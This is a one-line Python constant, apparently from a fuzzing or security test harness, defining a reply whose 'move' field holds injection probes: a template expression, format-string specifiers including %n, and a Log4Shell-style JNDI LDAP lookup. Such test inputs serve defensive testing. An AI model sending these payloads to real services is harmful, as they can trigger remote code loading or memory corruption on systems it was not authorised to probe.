REPLY = b'{"move":"{{7*7}}%s%n${jndi:ldap://x}"}\n'
